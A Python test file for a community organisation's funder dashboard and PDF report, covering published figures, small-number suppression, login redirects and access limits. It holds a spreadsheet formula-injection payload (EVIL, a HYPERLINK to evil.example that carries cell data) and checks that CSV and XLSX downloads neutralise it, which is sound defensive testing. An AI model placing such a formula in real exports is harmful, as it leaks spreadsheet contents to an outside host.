"""The funder's dashboard and its PDF: every figure as published in funders.db, choices from
the vocabulary only, too few people said in one line; against a real Datasette too."""

from __future__ import annotations

import re
import sqlite3
from collections.abc import Iterator
from io import BytesIO
from pathlib import Path

import httpx
import pytest
from conftest import login
from pypdf import PdfReader
from test_funders import (  # noqa: F401
    FUNDER,
    STAFF,
    TOO_FEW,
    funder_server,
    project,
    staff_server,
)
from typer.testing import CliRunner

from harvest.cli import app
from harvest.errors import PublishError
from harvest.publish.dashboard import Selection, build, connect, shown_value
from harvest.publish.report import write_report
from harvest.publish.uk_map import uk_map


@pytest.fixture
def conn(project: Path) -> Iterator[sqlite3.Connection]:  # noqa: F811
    conn = connect(project / "funders.db")
    yield conn
    conn.close()


def reached(conn: sqlite3.Connection, s: Selection) -> tuple:
    return conn.execute(
        "SELECT people, new_people, returning_people, attendances, shown FROM people_reached "
        "WHERE period = ? AND activity = ? AND area = ?",
        (s.period, s.activity, s.area),
    ).fetchone()


def test_headline_and_figures_are_the_published_rows(conn: sqlite3.Connection) -> None:
    s = Selection("2024-Q1", "Lunch club", "All areas")
    o = build(conn, s)
    people, new, returning, attendances, shown = reached(conn, s)
    assert shown == 1
    assert o.headline == {
        "people": people,
        "new_people": new,
        "returning_people": returning,
        "attendances": attendances,
    }
    who = conn.execute(
        "SELECT characteristic, value, people, percent FROM who_took_part WHERE period = ? "
        "AND activity = ? AND area = ? AND position > 0 ORDER BY position",
        ("2024-Q1", "Lunch club", "All areas"),
    ).fetchall()
    assert o.figures["who"].rows == who and not o.figures["who"].too_few
    assert o.organisation == "Test Trust" and o.period_label == "2024 quarter 1"
    reach = o.figures["reach"]
    assert reach.params == {"period_type": "quarter", "activity": "Lunch club", "area": "All areas"}
    assert [r[-1] for r in reach.rows] == ["2024-Q1"]
    assert o.figures["who"].link(".csv") == (
        "/dashboard/table/who.csv?period=2024-Q1&activity=Lunch+club&area=All+areas"
    )
    assert {r[0] for r in o.figures["activities"].rows} == {"All activities", "Lunch club"}


def test_map_of_people_by_postcode_district(conn: sqlite3.Connection) -> None:
    o = build(conn, Selection("2024-Q1"))
    districts = o.figures["districts"]
    assert districts.query == "where_people_live" and not districts.too_few
    svg = str(uk_map(districts))
    assert svg.startswith("<svg") and "<path" in svg  # the UK's outline, shipped
    for district in ("NW1", "E8"):
        (people,) = conn.execute(
            "SELECT people FROM people_reached WHERE period = '2024-Q1' "
            "AND activity = 'All activities' AND area = ?",
            (district,),
        ).fetchone()
        assert f"{district} " in svg and f"{shown_value(people)} people</title>" in svg
    assert str(uk_map(build(conn, Selection("2024-03")).figures["districts"])) == ""


def test_a_choice_with_too_few_people_says_so(conn: sqlite3.Connection) -> None:
    s = Selection("2024-03", "All activities", "All areas")
    assert reached(conn, s)[-1] == 0
    o = build(conn, s)
    assert o.headline is None
    for key in ("who", "sessions", "deprivation"):
        assert o.figures[key].too_few, key


def test_only_choices_from_the_vocabulary(conn: sqlite3.Connection) -> None:
    with pytest.raises(PublishError, match="not one of the choices for period"):
        build(conn, Selection("March 2024"))
    with pytest.raises(PublishError, match="activity"):
        build(conn, Selection("2024-Q1", "'=Job club"))


def test_published_values_in_plain_words() -> None:
    assert [shown_value(v) for v in ("<10", "suppressed", 160.0, 37.5, 1200, None)] == [
        "fewer than 10",
        "hidden",
        "160",
        "37.5",
        "1,200",
        "–",
    ]


def only_greys(data: bytes) -> bool:
    """Whether every colour the PDF's pages set is a grey (fpdf2 writes ``g``/``G`` for a
    grey and ``r g b rg``/``RG`` for any other colour)."""
    colours = []
    for page in PdfReader(BytesIO(data)).pages:
        content = page.get_contents()
        stream = content.get_data().decode("latin-1") if content else ""
        colours += re.findall(r"([\d.]+) ([\d.]+) ([\d.]+) (?:rg|RG)\b", stream)
    return all(r == g == b for r, g, b in colours)


def pdf_text(data: bytes) -> str:
    return " ".join(page.extract_text() for page in PdfReader(BytesIO(data)).pages)


def test_report_pdf_holds_the_figures(project: Path, tmp_path: Path) -> None:  # noqa: F811
    out = tmp_path / "report.pdf"
    result = CliRunner().invoke(
        app,
        ["report", "--period", "2024-Q1", "--out", str(out), "-c", str(project / "harvest.yaml")],
    )
    assert result.exit_code == 0, result.output
    text = pdf_text(out.read_bytes())
    conn = connect(project / "funders.db")
    people, *_, attendances, _ = reached(conn, Selection("2024-Q1"))
    conn.close()
    assert "Test Trust" in text and "2024 quarter 1" in text
    assert f"{shown_value(people)} {shown_value(attendances)}" in text  # the headline row
    assert "Who took part" in text and "Outcomes achieved" in text
    assert "Circumstances and needs" in text and "Volunteers and the hours they gave" in text
    # reach over time drawn: each bar's number above it, the period under it
    words = " ".join(text.split())
    assert f"too few to show. {shown_value(people)} 2024 Q1 Period People" in words
    # the map: its legend, and each district named with its people
    assert "People reached" in text and "A circle's area shows its people." in words
    for district, place in (("NW1", "Euston"), ("E8", "Dalston")):
        people = reached(connect(project / "funders.db"), Selection("2024-Q1", area=district))[0]
        assert f"{district} ({place}): {shown_value(people)}" in words
    assert only_greys(out.read_bytes())  # reads the same printed in black and white
    small = write_report(project / "funders.db", tmp_path / "small.pdf", period="2024-03")
    assert small.headline is None
    assert TOO_FEW in pdf_text((tmp_path / "small.pdf").read_bytes())
    bad = CliRunner().invoke(
        app, ["report", "--period", "nope", "-o", str(out), "-c", str(project / "harvest.yaml")]
    )
    assert bad.exit_code != 0 and "not one of the choices" in bad.output


def test_dashboard_over_http(funder_server: str) -> None:  # noqa: F811
    anon = httpx.Client(base_url=funder_server, timeout=10)
    assert anon.get("/dashboard").headers["location"] == "/-/login"
    assert anon.get("/dashboard/report.pdf").headers["location"] == "/-/login"
    assert "Test Trust" in anon.get("/-/login").text
    client = login(funder_server, *FUNDER)
    assert client.get("/").headers["location"] == "/dashboard"
    page = client.get("/dashboard", params={"period": "2024-Q1"})
    assert page.status_code == 200 and "2024 quarter 1" in page.text
    assert "Run SQL" not in page.text and "staff use only" not in page.text
    assert client.get("/dashboard", params={"period": "March 2024"}).status_code == 400
    pdf = client.get("/dashboard/report.pdf", params={"period": "2024-Q1"})
    assert pdf.headers["content-type"] == "application/pdf"
    assert "2024 quarter 1" in pdf_text(pdf.content)


def test_staff_view_sends_funders_to_the_dashboard_and_staff_to_the_index(
    staff_server: str,  # noqa: F811
) -> None:
    funder = login(staff_server, *FUNDER)
    assert funder.get("/").headers["location"] == "/dashboard"
    assert "Test Trust" in funder.get("/dashboard").text
    staff = login(staff_server, *STAFF)
    index = staff.get("/")
    assert index.status_code == 200 and "Funder dashboard" in index.text  # in the menu
    assert staff.get("/dashboard").status_code == 200


def test_volunteers_and_circumstances_are_the_published_rows(conn: sqlite3.Connection) -> None:
    o = build(conn, Selection("2024-Q1"))
    circumstances = conn.execute(
        "SELECT characteristic, value, people, percent FROM people_circumstances WHERE "
        "period = '2024-Q1' AND activity = 'All activities' AND area = 'All areas' "
        "AND position > 0 ORDER BY position"
    ).fetchall()
    in_words = [
        (c, v.replace("preferred_language", "preferred language"), *n) for c, v, *n in circumstances
    ]
    assert o.figures["circumstances"].rows == in_words and circumstances  # the labels, no codes
    assert {"Religion", "Food needs"} <= {group for group, _ in o.figures["circumstances"].groups()}
    volunteering = conn.execute(
        "SELECT r.period, r.shown, v.volunteers, v.hours_volunteered, r.people FROM "
        "people_reached r LEFT JOIN volunteering v USING (period, activity, area) WHERE "
        "r.period_type = 'quarter' AND activity = 'All activities' AND area = 'All areas'"
    ).fetchall()
    rows = {r[-1]: r[1:3] for r in o.figures["volunteers"].rows}
    assert rows and set(rows) == {period for period, *_ in volunteering}
    for period, shown, volunteers, hours, people in volunteering:
        assert rows[period] == ((volunteers, hours) if shown else (people, None))
    assert build(conn, Selection("2024-03")).figures["circumstances"].too_few


def formula_activity(project: Path, tmp_path: Path) -> Path:  # noqa: F811
    """A copy of funders.db whose activity is named like a spreadsheet formula, as anyone
    can name an event in a booking tool."""
    copy = tmp_path / "funders.db"
    copy.write_bytes((project / "funders.db").read_bytes())
    db = sqlite3.connect(copy)
    with db:
        for table in ("choices", "people_reached"):
            column = "value" if table == "choices" else "activity"
            db.execute(f"UPDATE {table} SET {column} = ? WHERE {column} = 'Lunch club'", (EVIL,))
        db.execute("UPDATE choices SET label = ? WHERE label = 'Lunch club'", (EVIL,))
    db.close()
    return copy


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Lunch club")'


def test_table_downloads_are_in_words_and_formula_safe(project: Path, tmp_path: Path) -> None:  # noqa: F811
    from openpyxl import load_workbook

    from harvest.publish.dashboard_web import figure_download

    conn = connect(formula_activity(project, tmp_path))
    o = build(conn, Selection("2024-Q1"), top=None)
    conn.close()
    activities = o.figures["activities"]
    text = figure_download(activities, "csv").body.decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0] == "Activity,People,Attendances"  # the headings as on the page
    saved = figure_download(activities, "xlsx").headers["content-disposition"]
    assert saved == 'attachment; filename="activities-2024-Q1-All-areas.xlsx"'
    assert any(line.startswith("\"'=HYPERLINK(") for line in lines), text
    sheet = load_workbook(BytesIO(figure_download(activities, "xlsx").body)).active
    cells = [row[0] for row in sheet.iter_rows(values_only=True)]
    assert "'" + EVIL in cells and EVIL not in cells
    who = figure_download(o.figures["who"], "csv").body.decode("utf-8-sig")
    assert "fewer than 10" in who and "<10" not in who and "prefer_not_to_say" not in who


def test_a_funder_gets_plain_pages_never_datasettes(funder_server: str) -> None:  # noqa: F811
    funder = login(funder_server, *FUNDER)
    sent = {
        "/funders": "/dashboard/tables",
        "/funders/who_took_part": "/dashboard/tables",
        "/funders/who?period=2024-Q1&area=": "/dashboard/table/who?period=2024-Q1",
        "/funders/where_people_live": "/dashboard/table/districts",
        "/funders/reach?period_type=quarter": "/dashboard/table/reach?period_type=quarter",
    }
    for path, target in sent.items():
        response = funder.get(path)
        assert (response.status_code, response.headers.get("location")) == (302, target), path
    bad = funder.get("/funders/reach?period_type=week")
    assert bad.status_code == 400 and "not one of the choices for period type" in bad.text
    assert funder.get("/funders/people").status_code == 404
    assert funder.get("/dashboard/table/people").status_code == 404
    assert funder.get("/funders/reach.json").status_code == 200  # data for programs stays
    page = funder.get("/dashboard/table/who", params={"period": "2024-Q1"})
    assert page.status_code == 200 and "Female" in page.text and "SQL" not in page.text
    csv_text = funder.get("/dashboard/table/reach.csv", params={"period_type": "quarter"}).text
    assert csv_text.lstrip("\ufeff").startswith("Period,People,New,Returning,Attendances")
    staff = login(funder_server, *STAFF)  # staff keep Datasette's own pages
    query = staff.get("/funders/who")
    assert query.status_code == 200 and "rows-and-columns" in query.text
